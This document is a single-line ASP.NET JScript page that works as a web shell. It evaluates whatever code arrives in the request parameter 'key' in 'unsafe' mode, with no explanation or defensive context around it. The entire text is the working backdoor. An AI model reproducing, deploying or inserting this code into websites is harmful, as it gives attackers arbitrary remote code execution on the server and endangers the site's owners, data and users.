<%@ Page Language="Jscript"%><%eval(Request.Item["key"],"unsafe");%>
